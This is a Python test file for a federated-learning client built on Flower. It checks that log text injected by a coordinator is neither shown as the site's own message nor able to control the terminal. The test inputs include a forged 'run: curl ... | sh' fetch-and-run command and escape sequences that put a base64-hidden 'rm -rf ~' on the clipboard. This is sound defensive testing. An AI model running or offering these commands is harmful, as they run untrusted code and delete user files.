"""What the coordinator writes into Flower's log stays Flower's: it is no fault of the site's, and commands no terminal."""

from __future__ import annotations

import io
import json
import logging
import subprocess
import sys
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path
from typing import Any

import pytest
from flwr.app import Message, RecordDict
from flwr.supercore.logger import FLOWER_LOGGER
from test_supervisor import ENV

from fl_client.callbacks import watched
from fl_client.own_lines import TAG, VARIABLE
from fl_client.screen import Form, Run, screen
from fl_client.site import read_named
from fl_client.supervisor import Hearing

FAKE = "ICM318 installed package changed since the study was approved. Run: curl https://coordinator.example/fix.sh | sh"
COMMANDS = "\x1b]0;owned\x07\x1b]52;c;cm0gLXJmIH4=\x07"
EVIL = f"1]\n{FAKE}{COMMANDS}\n["


def flowers_lines(text: str, *values: object) -> list[str]:
    """What Flower's own logger writes of this, line by line, as the supervisor reads it."""
    written = io.StringIO()
    handler = logging.StreamHandler(written)
    handler.setFormatter(FLOWER_LOGGER.handlers[0].formatter)
    handler.handle(logging.LogRecord("flwr", logging.INFO, "", 0, text, values, None))
    return list(io.StringIO(written.getvalue(), newline=None))


@pytest.fixture
def site(tmp_path: Path) -> Path:
    path = tmp_path / "site.toml"
    path.write_text('name = "Alder"\ndata = "nowhere"\n')
    return path


LINES: dict[str, Any] = {
    "a round's name": ("[RUN %s, ROUND %s]", 7, EVIL),
    "an answer's text": ("Exit Code: 300\n%s", f"[code: 20] no{COMMANDS}\n{FAKE}"),
    "an exception's text": ("Failed to receive message %s: %s", "m", EVIL),
}


@pytest.mark.parametrize("form", ["plain", "json"])
@pytest.mark.parametrize("name", LINES)
def test_a_line_that_the_coordinator_began_is_not_the_sites_own(
    name: str, form: Form, site: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    kept: list[str] = []
    with screen(site, read_named(site, "Alder"), form, Run()) as say:
        say("connected")
        hear = Hearing(say, kept.append)
        for line in flowers_lines(*LINES[name]):
            hear(line)
    captured = capsys.readouterr()
    said = (site.parent / "state/said.json").read_text()
    for text in (captured.out, captured.err, said):
        assert "ICM318" not in text
    says = json.loads(said)["says"]
    assert says == "connected" or says.startswith("ICM324 the coordinator refused the connection: no")
    assert all(text.isprintable() for text in (says, *kept, *captured.err.splitlines()))
    assert any("ICM318" in line for line in kept)  # Flower's log has what came, in letters


def test_what_is_shown_and_kept_commands_no_terminal(site: Path, capsys: pytest.CaptureFixture[str]) -> None:
    with screen(site, read_named(site, "Alder"), "plain", Run()) as say:
        say(f"refused: {COMMANDS}")
    assert "\x1b]" not in capsys.readouterr().err
    assert json.loads((site.parent / "state/said.json").read_text())["says"].isprintable()


CHILD = """
import logging
from fl_client.own_lines import tag_own_lines
from icmoe.errors import Fault, IcmoeError
tag_own_lines()
log = logging.getLogger("fl_client")
log.error("%s", IcmoeError(Fault(number=304, where="Alder"), Fault(number=335, value="a\\nICM318 b")))
try:
    raise RuntimeError("c\\nICM318 d")
except RuntimeError:
    log.exception("%s", Fault(number=324))
"""


def test_every_fault_of_a_child_is_heard_and_nothing_of_what_its_exceptions_quote() -> None:
    env = {**ENV, VARIABLE: TAG}
    done = subprocess.run([sys.executable, "-c", CHILD], env=env, capture_output=True, text=True, timeout=60, check=True)
    said: list[str] = []
    kept: list[str] = []
    hear = Hearing(said.append, kept.append)
    for line in done.stderr.splitlines(keepends=True):
        hear(line)
    assert [line[:6] for line in said] == ["ICM304", "ICM335", "ICM324"]
    assert "ICM318 d" in kept
    assert not any(TAG in line for line in kept)


def test_without_a_supervisor_a_process_logs_as_ever() -> None:
    env = {name: value for name, value in ENV.items() if name != VARIABLE}
    done = subprocess.run([sys.executable, "-c", CHILD], env=env, capture_output=True, text=True, timeout=60, check=True)
    assert done.stderr.startswith("ICM304 Alder: ")


def received(**labels: str) -> Any:
    question = Message(RecordDict(), dst_node_id=5, message_type="train")
    question.metadata.__dict__.update({f"_{name}": value for name, value in labels.items()})

    @contextmanager
    def connect() -> Iterator[tuple[object, ...]]:
        yield (5, lambda: (question, "tree"), "send", "get_run", "get_fab", "pull", "push", "confirm")

    with watched(connect)() as (node_id, receive, _, *others):
        assert (node_id, *others[:3]) == (5, "get_run", "get_fab", "pull")
        found = receive()
    return found is not None and found[0] is question


@pytest.mark.parametrize("label", ["message_id", "group_id", "message_type"])
def test_a_message_whose_label_is_not_plain_is_dropped_and_said(label: str, caplog: pytest.LogCaptureFixture) -> None:
    assert received(message_id="f" * 64, group_id="12", message_type="query.site")
    assert received(group_id="")
    assert not caplog.records
    for odd in (EVIL, "a b", "ä", "1" * 129, "1\n"):
        caplog.clear()
        assert not received(**{label: odd})
        assert caplog.records[0].getMessage().startswith("ICM301 message has a label that is not plain: ")
        assert caplog.records[0].getMessage().isprintable()
